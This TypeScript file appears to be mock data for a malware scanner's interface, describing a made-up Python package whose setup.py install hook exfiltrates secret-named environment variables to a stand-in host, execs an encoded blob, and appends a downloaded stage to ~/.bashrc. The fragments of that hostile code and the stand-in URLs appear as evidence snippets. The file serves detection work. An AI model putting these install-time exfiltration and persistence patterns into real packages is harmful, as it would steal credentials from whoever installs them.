import type { DocumentView } from "../../main/api/contract.ts";
import type { Analysis } from "../../main/model/analysis/analysis.ts";
import type { Evidence, Finding } from "../../main/model/analysis/finding.ts";
import type { Layer } from "../../main/model/analysis/layer.ts";
import type { RuleInfo } from "../../main/model/analysis/rule-info.ts";
import {
	blobSpan,
	hostText,
	innerSpan,
	innerText,
	memberId,
	members,
	payloadText,
	root,
	setupText,
	sources,
	spanIn,
	testText,
} from "./mock-sources.ts";

const layers: readonly Layer[] = [
	{
		id: "l0",
		memberId: memberId("setup.py"),
		path: `${root}/setup.py`,
		span: blobSpan,
		memberSpan: blobSpan,
		chain: [
			{ transform: "base64", inputLength: 160, outputLength: 120 },
			{ transform: "zlib", inputLength: 120, outputLength: payloadText.length },
		],
		kind: "python",
		size: payloadText.length,
		sha256: "0".repeat(64),
		use: "executed",
		depth: 1,
	},
	{
		id: "l1",
		memberId: memberId("setup.py"),
		path: `${root}/setup.py`,
		parentId: "l0",
		span: innerSpan,
		memberSpan: blobSpan,
		chain: [{ transform: "hex", inputLength: 22, outputLength: innerText.length }],
		kind: "python",
		size: innerText.length,
		sha256: "1".repeat(64),
		use: "executed",
		depth: 2,
	},
];
const [outerLayer, innerLayer] = layers;

interface Made {
	readonly rule: string;
	readonly path: string;
	readonly text: string;
	readonly from: string;
	readonly to?: string;
	readonly finding: Pick<Finding, "severity" | "confidence" | "reach" | "reachPath" | "family" | "message"> &
		Partial<Pick<Finding, "attack" | "layerIds">>;
	readonly evidence?: readonly (readonly [label: string, text: string, value: string])[];
}

function make(made: Made, index: number): Finding {
	const layerIds = made.finding.layerIds ?? [];
	const own = spanIn(made.text, made.from, made.to);
	const layer = layers.find((candidate) => candidate.id === layerIds.at(-1));
	const id = memberId(made.path);
	const path = `${root}/${made.path}`;
	return {
		id: `finding-${index}`,
		rule: made.rule,
		attack: [],
		traits: [],
		...made.finding,
		memberId: id,
		path,
		layerIds: [...layerIds],
		layers: layerIds.map(() => "base64 → zlib → Python, 0.3 kB"),
		span: layer === undefined ? own : layer.memberSpan,
		...(layer === undefined ? {} : { layerSpan: own }),
		excerpt: made.text.slice(own.startOffset, own.endOffset).split("\n")[0] ?? "",
		evidence: (made.evidence ?? []).map(([label, text, value]): Evidence => {
			const span = spanIn(made.text, text);
			return {
				label,
				path,
				memberId: id,
				...(layer === undefined ? {} : { layerId: layer.id }),
				span,
				startLine: layer === undefined ? span.startLine : layer.memberSpan.startLine,
				value,
			};
		}),
		fingerprint: `fingerprint-${index}`,
	};
}

const findings: readonly Finding[] = [
	make(
		{
			rule: "execution-of-decoded-content",
			path: "setup.py",
			text: setupText,
			from: "exec(zlib.decompress(base64.b64decode(BLOB)))",
			finding: {
				family: "exec",
				severity: "critical",
				confidence: "high",
				reach: "install",
				reachPath: ["setup.py", "cmdclass install", "run()"],
				message: "Decodes a literal (base64 → zlib) and executes the Python in it, on installation.",
				attack: ["T1059.006", "T1140"],
			},
			evidence: [
				["literal", '"eJxNjkEKwjAQ', "eJxNjkEKwjAQRfc9xdCVgqQ3EFy5cSGIuC1pMtBAMhMyE9Tb28aCLt9/8P7n"],
				["decodes base64, zlib", "zlib.decompress(base64.b64decode(BLOB))", payloadText.slice(0, 120)],
				["executes", "exec(", ""],
			],
		},
		0,
	),
	make(
		{
			rule: "environment-sent-out",
			path: "setup.py",
			text: setupText,
			from: "urllib.request.Request(ENDPOINT, data=repr(names).encode())",
			finding: {
				family: "exfiltration",
				severity: "critical",
				confidence: "high",
				reach: "install",
				reachPath: ["setup.py", "cmdclass install", "run()"],
				message: "Sends environment variables named like secrets to https://collect.example.test/v1/hello.",
				attack: ["T1041", "T1552.001"],
			},
			evidence: [
				["reads the environment", "os.environ[key]", "names holding TOKEN"],
				["sends", "urllib.request.urlopen(request, timeout=5)", "https://collect.example.test/v1/hello"],
			],
		},
		1,
	),
	make(
		{
			rule: "network-at-install",
			path: "setup.py",
			text: setupText,
			from: "urllib.request.urlopen(request, timeout=5)",
			finding: {
				family: "network",
				severity: "high",
				confidence: "high",
				reach: "install",
				reachPath: ["setup.py", "cmdclass install", "run()"],
				message: "Contacts a host on installation.",
				attack: ["T1071.001"],
			},
		},
		2,
	),
	make(
		{
			rule: "shell-startup-written",
			path: "setup.py",
			text: payloadText,
			from: 'open(target, "a")',
			finding: {
				family: "persistence",
				severity: "critical",
				confidence: "high",
				reach: "install",
				reachPath: ["setup.py", "cmdclass install", "run()"],
				message: "Appends to ~/.bashrc what it downloaded from http://203.0.113.77:8080/stage2.",
				attack: ["T1546.004"],
				layerIds: ["l0"],
			},
			evidence: [
				["names the file", 'os.path.expanduser("~/.bashrc")', "~/.bashrc"],
				["downloads", "urllib.request.urlopen(", "http://203.0.113.77:8080/stage2"],
				["writes", "handle.write(", ""],
			],
		},
		3,
	),
	make(
		{
			rule: "execution-of-decoded-content",
			path: "setup.py",
			text: payloadText,
			from: 'exec(bytes.fromhex("7072696e74282268692229"))',
			finding: {
				family: "exec",
				severity: "high",
				confidence: "medium",
				reach: "install",
				reachPath: ["setup.py", "cmdclass install", "run()"],
				message: "Decodes a literal (hex) and executes it.",
				attack: ["T1059.006"],
				layerIds: ["l0"],
			},
		},
		4,
	),
	make(
		{
			rule: "command-class-override",
			path: "setup.py",
			text: setupText,
			from: 'cmdclass={"install": PostInstall}',
			finding: {
				family: "install-hook",
				severity: "medium",
				confidence: "high",
				reach: "install",
				reachPath: ["setup.py", "cmdclass install", "run()"],
				message: "Replaces the install command with code of its own.",
				attack: ["T1195.002"],
			},
		},
		5,
	),
	make(
		{
			rule: "long-encoded-literal",
			path: "setup.py",
			text: setupText,
			from: '"eJxNj',
			to: 'x1w=="',
			finding: {
				family: "hiding",
				severity: "low",
				confidence: "medium",
				reach: "install",
				reachPath: ["setup.py", "cmdclass install", "run()"],
				message: "Holds a long literal that decodes by base64 → zlib to Python.",
				attack: ["T1027"],
			},
		},
		6,
	),
	make(
		{
			rule: "process-spawned",
			path: "aurora_metrics/collectors/host.py",
			text: hostText,
			from: 'subprocess.check_output(["uname", "-a"])',
			finding: {
				family: "process",
				severity: "low",
				confidence: "high",
				reach: "called",
				reachPath: ["aurora_metrics/collectors/host.py", "describe()"],
				message: "Starts the program uname when called.",
				attack: ["T1082"],
			},
		},
		7,
	),
	make(
		{
			rule: "process-spawned",
			path: "tests/test_cli.py",
			text: testText,
			from: 'subprocess.run(["aurora", "--help"], check=False)',
			finding: {
				family: "process",
				severity: "info",
				confidence: "high",
				reach: "test",
				reachPath: ["tests/test_cli.py", "test_help()"],
				message: "Starts the program aurora in a test.",
			},
		},
		8,
	),
	{
		id: "finding-9",
		rule: "name-next-to-popular",
		family: "metadata",
		severity: "medium",
		confidence: "low",
		reach: "unreached",
		reachPath: [],
		path: "aurora_metrics-2.4.1.tar.gz",
		layerIds: [],
		layers: [],
		span: { startOffset: 0, endOffset: 0, startLine: 1, startColumn: 1, endLine: 1, endColumn: 1 },
		excerpt: "aurora-metrics",
		message: "The project's name differs from the popular project “aurora-metric” by one letter.",
		evidence: [],
		fingerprint: "fingerprint-9",
		attack: ["T1036.005"],
		traits: [],
	},
];

export const mockAnalysis: Analysis = {
	artifact: {
		id: "a".repeat(64),
		kind: "sdist",
		filename: "aurora_metrics-2.4.1.tar.gz",
		size: 18_412,
		sha256: "a".repeat(64),
		blake2b256: "b".repeat(64),
		project: "aurora-metrics",
		version: "2.4.1",
		origin: "disk",
	},
	members: [...members],
	layers: outerLayer && innerLayer ? [outerLayer, innerLayer] : [],
	findings: [...findings],
	indicators: [
		{
			kind: "url",
			value: "https://collect.example.test/v1/hello",
			path: `${root}/setup.py`,
			memberId: "m2",
			startLine: 8,
		},
		{
			kind: "url",
			value: "http://203.0.113.77:8080/stage2",
			path: `${root}/setup.py`,
			memberId: "m2",
			layerId: "l0",
			startLine: 9,
		},
		{ kind: "ip", value: "203.0.113.77", path: `${root}/setup.py`, memberId: "m2", layerId: "l0", startLine: 9 },
		{ kind: "path", value: "~/.bashrc", path: `${root}/setup.py`, memberId: "m2", layerId: "l0", startLine: 9 },
	],
	verdict: {
		level: "malicious",
		score: 94,
		story: [
			"On pip install, setup.py sends environment variables named like secrets to hxxps[://]collect[.]example[.]test/v1/hello.",
			"It then decodes a literal (base64 → zlib) and executes it; the decoded code downloads from hxxp[://]203[.]0[.]113[.]77:8080/stage2 and appends the answer to ~/.bashrc.",
		],
		reasons: [],
		wouldBe: [],
	},
	coverage: {
		members: members.length,
		scanned: members.length - 1,
		examined: members.length - 1,
		inPart: 0,
		notExamined: 1,
		skipped: [
			{
				path: `${root}/aurora_metrics/_native.cpython-311-x86_64-linux-gnu.so`,
				reason: "Machine code: only its strings were looked at.",
			},
		],
	},
	status: "partial",
	ruleset: "mock-1",
	durationMs: 412,
};

export const mockRules: readonly RuleInfo[] = [
	...new Map(findings.map((finding) => [finding.rule, finding])).values(),
].map((finding) => ({
	id: finding.rule,
	title: finding.rule.charAt(0).toUpperCase() + finding.rule.slice(1).replaceAll("-", " "),
	family: finding.family,
	severity: finding.severity,
	attack: [...finding.attack],
	traits: [],
	why: "Code that runs on installation runs before anybody has looked at the package, with the rights of whoever installs it.",
	lookalikes:
		"Build scripts that compile an extension run programs too; they name compilers and paths inside of the package.",
}));

/** The document of a member or a layer of the made-up package. */
export function mockDocument(documentId: string): DocumentView | undefined {
	const layer = layers.find((candidate) => candidate.id === documentId);
	const source = sources[members.findIndex((member) => member.id === documentId)];
	const text = layer === undefined ? source?.text : layer.id === "l0" ? payloadText : innerText;
	if (text === undefined) return undefined;
	const title = layer?.path ?? source?.path ?? documentId;
	return {
		documentId,
		title,
		language:
			layer !== undefined || title.endsWith(".py") ? "python" : title.endsWith(".md") ? "markdown" : "plaintext",
		view: "text",
		text,
		encoding: "utf-8",
		size: text.length,
		warnings: [],
	};
}
